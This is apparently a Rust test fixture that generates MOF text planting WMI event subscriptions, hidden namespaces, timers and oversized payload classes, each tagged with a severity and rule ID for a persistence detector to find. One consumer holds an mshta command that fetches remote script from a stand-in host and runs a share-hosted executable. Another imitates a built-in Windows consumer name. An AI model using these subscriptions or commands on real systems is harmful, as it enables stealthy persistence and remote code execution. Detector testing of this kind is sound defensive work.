//! Subscriptions to plant, as MOF: every kind of consumer, in several namespaces, with names and
//! references in every spelling; and halves of them.

use serde_json::Value;

const SYSTEM: &str = "{1,1,0,0,0,0,0,5,18,0,0,0}";
const SOMEBODY: &str = "{1,5,0,0,0,0,0,5,21,0,0,0,1,0,0,0,2,0,0,0,3,0,0,0,232,3,0,0}";

/// Classes of consumers, and one value of each.
const KINDS: [(&str, &str, &str); 5] = [
    (
        "CommandLineEventConsumer",
        "CommandLineTemplate",
        "cmd /c x",
    ),
    ("ActiveScriptEventConsumer", "ScriptText", "x = 1"),
    ("LogFileEventConsumer", "FileName", "x.log"),
    ("NTEventLogEventConsumer", "SourceName", "x"),
    ("SMTPEventConsumer", "ToLine", "x@example.org"),
];

/// Heads of references, for a namespace.
const SPELLINGS: [&str; 4] = ["", r"\\.\NS:", r"\\MACHINE\NS:", "//./NS:"];

/// The tail of names: quotes, backslashes, letters beyond ASCII.
const TAIL: &str = "\"\\ö ''";

/// Something that was planted.
pub struct Plant {
    pub mof: String,
    pub level: &'static str,
    pub rules: Vec<&'static str>,
    kind: &'static str,
    name: String,
}

impl Plant {
    /// True if a row is about it.
    pub fn is_in(&self, row: &Value) -> bool {
        let names = [
            &row["consumer"]["properties"]["Name"],
            &row["filter"]["properties"]["Name"],
            &row["objects"][0]["properties"]["TimerId"],
        ];
        let has_name = names.iter().any(|name| **name == self.name.as_str());
        let path = row["path"].as_str().unwrap();
        row["kind"] == self.kind && (has_name || path.contains(&self.name))
    }
}

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""))
}

fn at(namespace: &str) -> String {
    format!(
        "#pragma namespace({})\n",
        quoted(&format!(r"\\.\{namespace}"))
    )
}

/// What the classes of consumers are. Nothing in it is a finding.
pub fn clean() -> String {
    let mut mof = at("ROOT") + "instance of __NAMESPACE { Name = \"subscription\"; };\n";
    for namespace in [r"ROOT\subscription", r"ROOT\DEFAULT"] {
        mof += &(at(namespace) + &classes());
    }
    mof + "[Description(\"x\")] class Plain { string Text = \"a\"; };\n"
}

fn classes() -> String {
    let class = |(class, property, _): &(&str, &str, &str)| {
        format!("class {class} : __EventConsumer {{ [key] string Name; string {property}; }};\n")
    };
    KINDS.iter().map(class).collect()
}

fn filter(name: &str, query: &str, sid: &str) -> String {
    format!(
        "instance of __EventFilter {{ Name = {}; QueryLanguage = \"WQL\"; Query = {}; CreatorSID = {sid}; }};\n",
        quoted(name),
        quoted(query)
    )
}

fn consumer(class: &str, property: &str, value: &str, name: &str, sid: &str) -> String {
    let (name, value) = (quoted(name), quoted(value));
    format!("instance of {class} {{ Name = {name}; {property} = {value}; CreatorSID = {sid}; }};\n")
}

fn binding(head: &str, filter: &str, class: &str, consumer: &str, sid: &str) -> String {
    let filter = format!("{head}__EventFilter.Name={}", quoted(filter));
    let consumer = format!("{head}{class}.Name={}", quoted(consumer));
    let (filter, consumer) = (quoted(&filter), quoted(&consumer));
    format!(
        "instance of __FilterToConsumerBinding {{ Filter = {filter}; Consumer = {consumer}; CreatorSID = {sid}; }};\n"
    )
}

/// A whole chain.
fn chain(
    namespace: &str,
    spelling: &str,
    kind: (&str, &str, &str),
    name: &str,
    sid: &str,
) -> String {
    let head = spelling.replace("NS", namespace);
    let head = if head.starts_with('/') {
        head.replace('\\', "/")
    } else {
        head
    };
    let (class, property, value) = kind;
    [
        at(namespace),
        filter(name, "SELECT * FROM X", sid),
        consumer(class, property, value, name, sid),
        binding(&head, name, class, name, sid),
    ]
    .concat()
}

struct Garden(Vec<Plant>);

impl Garden {
    fn name(&self) -> String {
        format!("N{:03}{TAIL}", self.0.len())
    }

    fn add(
        &mut self,
        kind: &'static str,
        name: String,
        mof: String,
        level: &'static str,
        rules: &[&'static str],
    ) {
        let rules = rules.to_vec();
        self.0.push(Plant {
            mof,
            level,
            rules,
            kind,
            name,
        });
    }
}

/// All of them.
pub fn planted() -> Vec<Plant> {
    let mut garden = Garden(Vec::new());
    classes_of_others(&mut garden);
    chains(&mut garden);
    halves(&mut garden);
    payloads(&mut garden);
    garden.0
}

/// Classes of consumers where Windows has none: in a namespace of its own, and a new one.
fn classes_of_others(garden: &mut Garden) {
    let mut mof = at("ROOT") + "instance of __NAMESPACE { Name = \"hidden\"; };\n";
    mof += &(at(r"ROOT\hidden") + &classes());
    for (class, _, _) in KINDS {
        let name = format!(r"ROOT\hidden:{class}");
        garden.add(
            "class",
            name,
            std::mem::take(&mut mof),
            "medium",
            &["P03", "P15"],
        );
    }
    let own = "class OwnConsumer : __EventConsumer { [key] string Name; string Text; };\n";
    let mof = at(r"ROOT\subscription") + own;
    garden.add("class", "OwnConsumer".to_owned(), mof, "medium", &["P03"]);
}

fn chains(garden: &mut Garden) {
    let own = ("OwnConsumer", "Text", "x");
    for spelling in SPELLINGS {
        for kind in KINDS.into_iter().chain([own]) {
            let (level, rule) = match kind.0 {
                "CommandLineEventConsumer" | "ActiveScriptEventConsumer" => ("high", "P01"),
                "OwnConsumer" => ("high", "P03"),
                _ => ("medium", "P02"),
            };
            let name = garden.name();
            let mof = chain(r"ROOT\subscription", spelling, kind, &name, SYSTEM);
            garden.add("binding", name, mof, level, &[rule]);
        }
    }
    for (namespace, rules) in [
        (r"ROOT\DEFAULT", ["P05", "P05"]),
        (r"ROOT\hidden", ["P03", "P15"]),
    ] {
        for spelling in [SPELLINGS[0], SPELLINGS[2]] {
            for kind in KINDS {
                let name = garden.name();
                let mof = chain(namespace, spelling, kind, &name, SYSTEM);
                garden.add("binding", name, mof, "high", &rules);
            }
        }
    }
    for kind in [KINDS[2], KINDS[3]] {
        let name = garden.name();
        let mof = chain(r"ROOT\subscription", "", kind, &name, SOMEBODY);
        garden.add("binding", name, mof, "high", &["P02", "P06"]);
    }
    // The name of the consumer that Windows has, on a command.
    let (name, here) = ("SCM Event Log Consumer", r"ROOT\subscription");
    let mof = chain(here, "", KINDS[0], name, SYSTEM);
    garden.add(
        "binding",
        name.to_owned(),
        mof,
        "high",
        &["P01", "Imitation"],
    );
}

fn halves(garden: &mut Garden) {
    let here = at(r"ROOT\subscription");
    for namespace in [r"ROOT\subscription", r"ROOT\DEFAULT"] {
        let level = if namespace == r"ROOT\DEFAULT" {
            "high"
        } else {
            "medium"
        };
        let name = garden.name();
        let query =
            "SELECT * FROM __InstanceCreationEvent WHERE TargetInstance ISA 'Win32_Process'";
        let mof = at(namespace) + &filter(&name, query, SYSTEM);
        garden.add("filter", name, mof, level, &["P04", "P07"]);
        let name = garden.name();
        let (class, property, value) = KINDS[2];
        let mof = at(namespace) + &consumer(class, property, value, &name, SYSTEM);
        garden.add("consumer", name, mof, level, &["P04"]);
    }
    let signs = r"mshta http://a.example/x & \\server\share\x.exe";
    let name = garden.name();
    let mof = here.clone() + &consumer(KINDS[0].0, KINDS[0].1, signs, &name, SYSTEM);
    garden.add("consumer", name, mof, "high", &["P04", "P09"]);

    let name = garden.name();
    let mof = here.clone() + &filter(&name, "SELECT * FROM X", SYSTEM);
    let mof = mof + &binding("", &name, KINDS[2].0, "nobody", SYSTEM);
    garden.add("binding", name, mof, "medium", &["P02", "P04"]);

    let timer = "instance of __IntervalTimerInstruction { TimerId = \"T1\"; IntervalBetweenEvents = 9; };\n";
    garden.add("timer", "T1".to_owned(), here + timer, "medium", &["P08"]);
}

fn payloads(garden: &mut Garden) {
    let here = at(r"ROOT\subscription");
    for (name, length) in [("Small", 300), ("Large", 1 << 20)] {
        let text = "A".repeat(length);
        let class =
            format!("[Description(\"x\")] class Payload{name} {{ string D = \"{text}\"; }};\n");
        garden.add(
            "class",
            format!("Payload{name}"),
            here.clone() + &class,
            "high",
            &["P11"],
        );
    }
    let drawer = "class Drawer { string D = \"a\"; };\n";
    garden.add(
        "class",
        "Drawer".to_owned(),
        here + drawer,
        "medium",
        &["P12"],
    );
}
